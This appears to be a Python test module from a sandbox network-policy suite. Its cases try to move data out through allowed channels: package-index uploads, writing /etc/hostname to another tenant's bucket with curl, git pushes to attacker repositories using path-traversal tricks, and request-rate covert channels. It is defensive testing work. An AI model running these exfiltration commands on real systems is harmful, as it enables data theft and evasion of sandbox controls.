"""Places that are allowed, used for something else: registries, buckets, forges, rates. What no policy can stop (docs/security.md, "What is not
promised") is shown as a control: the log has it."""

from framework import attack
from gate import Gate, command, get, raw


def body(host, path, method, content="data-{m}", sni=None):
    return raw(host, f"{method} {path} HTTP/1.1\r\nHost: {host}\r\nContent-Length: {len(content.replace('{m}', 'm' + '0' * 12))}\r\n\r\n{content}", sni=sni)


@attack("D01", conditions=("partial",), seconds=150)
def registries(t):
    """Publishing to a package index that may only be read, and carrying data in what is asked for"""
    world, box = t.world, t.world.sandbox()
    gate = Gate(t, box)
    gate.control("pip's index is read", get("pip.test", "/pkg/simple/tinypip/?{m}", sni="pip.test"), lambda seen: seen.status == "200")
    gate.control("a PUT arrives where no rule forbids it", body("allowed.test", "/{m}", "PUT"))
    gate.control("npm reads a package", command("cd /tmp && rm -rf n && mkdir n && cd n && npm view --registry https://npm.test/pkg/npm tinynpm version", 60), lambda seen: "1.0.0" in seen.out)
    for host in ("pip.test", "npm.test"):
        for sni in (None, host):
            for method in ("PUT", "POST", "PATCH", "DELETE"):
                gate.attempt(f"{method} to {host}, TLS {sni is not None}", body(host, "/pkg/upload/{m}", method, sni=sni))
            gate.attempt(f"a GET with a body to {host}, TLS {sni is not None}", body(host, "/pkg/upload/{m}", "GET", sni=sni))
    gate.attempt("npm publish", command("cd /tmp && rm -rf p{m} && mkdir p{m} && cd p{m} && echo '{\"name\": \"{m}\", \"version\": \"1.0.0\"}' > package.json && echo '//npm.test/pkg/npm/:_authToken=x' > .npmrc && "
                                        "timeout 50 npm publish --registry https://npm.test/pkg/npm", 60), lambda seen: [entry for entry in seen.arrived if entry.get("method") not in ("GET", "HEAD", None)])
    gate.attempt("a form upload as twine does it", command("echo data > /tmp/{m}; curl -sS -m 15 -F :action=file_upload -F name={m} -F content=@/tmp/{m} https://pip.test/legacy/"), lambda seen: [entry for entry in seen.arrived if entry.get("method") == "POST"])
    marker = gate.control("what a path carries out is not stopped", get("pip.test", "/pkg/simple/{m}/"))
    gate.go(threads=4)
    with world.attacker.events(f"{box.path}/egress/log") as stream:
        t.attempt("what a path carried out is not in the log either", not any(marker in event.data.get("path", "") for event in stream))


@attack("D04", conditions=("partial",), seconds=150)
def buckets(t):
    """Another one's bucket at the same store, by name, by Host, by signed URL"""
    gate = Gate(t, t.world.sandbox())
    signed = "/object-{m}?X-Amz-Signature=0123456789abcdef&X-Amz-Expires=600"
    gate.control("the own bucket is read", get("mine.s3.test", signed, sni="mine.s3.test"))
    gate.control("the own bucket is written", body("mine.s3.test", "/{m}", "PUT", sni="mine.s3.test"))
    for sni in (None, "mine.s3.test"):
        for method in ("GET", "PUT"):
            gate.attempt(f"another bucket by Host, {method}, TLS {sni is not None}", get("mine.s3.test", signed, sni=sni, named="theirs.s3.test", method=method))
    gate.attempt("another bucket by name", command("curl -sS -m 10 -T /etc/hostname https://theirs.s3.test/{m}"))
    gate.attempt("another bucket by name and address", command(f"curl -k -sS -m 10 --resolve theirs.s3.test:443:{t.world.net.shared} https://theirs.s3.test/{{m}}"))
    gate.attempt("another bucket as SNI", get("mine.s3.test", signed, sni="theirs.s3.test", named="theirs.s3.test"))
    gate.attempt("the store itself, with the bucket in the path", command("curl -sS -m 10 https://s3.test/theirs/{m}"))
    gate.go()


@attack("D06", conditions=("partial",), seconds=60)
def rates(t):
    """Bits in the order and rate of requests: the limits that a sandbox can be given"""
    world, box = t.world, t.world.sandbox("second")
    count = 60
    burst = ("import socket, time\n"
             "done = 0; begun = time.time()\n"
             f"for n in range({count}):\n"
             "  host = ('allowed.test', 'cdn-ok.test')[n % 2]\n"
             "  try:\n    s = socket.create_connection((host, 80), 5); s.send(b'GET /MARK-%d HTTP/1.1\\r\\nHost: ' % n + host.encode() + b'\\r\\nConnection: close\\r\\n\\r\\n'); done += b' 200 ' in s.recv(300); s.close()\n"
             "  except OSError: pass\n"
             "print(done, time.time() - begun)\n")
    policy = {"mode": "allowlist", "rules": [{"name": "allowed.test"}, {"name": "cdn-ok.test"}]}
    try:
        for limits, mark in (({}, "free"), ({"requests_per_second": 5}, "held")):
            world.settle(box, policy, limits=limits)
            box.write("/tmp/burst.py", burst.replace("MARK", mark).encode())
            done, took = t.guest(box, ["python3", "/tmp/burst.py"], timeout=60).stdout.split()
            arrived = len([entry for entry in world.net.since(world.mark, "shared") if str(entry.get("path", "")).startswith("/" + mark)])
            if mark == "free":
                t.control("without a limit all of them arrive", arrived == count, arrived)
            else:
                t.figure("requests that arrived under a limit of 5 a second, in s", f"{arrived} of {count}, {float(took):.1f}")
                t.control("some arrive", arrived > 0)
                t.attempt("more requests leave than the limit", arrived > 5 * (float(took) + 1) + 1, f"{arrived} in {took} s")
        # And an end to all bytes.
        world.settle(box, policy, limits={"total_bytes": 20000})
        box.write("/tmp/burst.py", burst.replace("MARK", "bytes").encode())
        t.guest(box, ["python3", "/tmp/burst.py"], timeout=60)
        more = t.guest(box, "curl -sS -m 8 http://allowed.test/after-all", timeout=30)
        t.attempt("a request leaves after all bytes were used", more.code == 0 and b"after-all" in more.stdout, more.stdout[-100:])
    finally:
        world.settle(box)
    t.note("what order and time of allowed requests can say is not stopped (docs/security.md); limits bound it and the log has every request")


@attack("D09", conditions=("partial",), seconds=90)
def forges(t):
    """git push to another repository of the forge that one may read from"""
    box = t.world.sandbox()
    gate = Gate(t, box, threads=3)
    gate.control("the allowed repository is cloned", command("cd /tmp && rm -rf tiny && git clone -q https://git.test/pkg/tiny.git && cat tiny/README", 60), lambda seen: "tiny" in seen.out and "code 0" in seen.out)
    gate.go()
    gate.control("its path is asked for", get("git.test", "/pkg/tiny.git/info/refs?service=git-upload-pack&{m}", sni="git.test"))
    for repository in ("attacker/{m}.git", "pkg/tiny.git/../../attacker/{m}.git", "pkg/tiny.github/{m}.git", "pkg/%2e%2e/attacker/{m}.git"):
        gate.attempt(f"git push to {repository}", command(f"cd /tmp/tiny && timeout 20 git -c http.lowSpeedTime=5 push -q https://x:y@git.test/{repository} HEAD:refs/heads/main", 40))
        gate.attempt(f"git fetch of {repository}", command(f"cd /tmp/tiny && timeout 20 git ls-remote https://git.test/{repository}", 40))
    for path in ("/attacker/{m}/info/refs?service=git-receive-pack", "/pkg/tiny.git/..%2f..%2fattacker/{m}", "//attacker/{m}"):
        gate.attempt(f"the path {path}", get("git.test", path, sni="git.test"))
    gate.go()
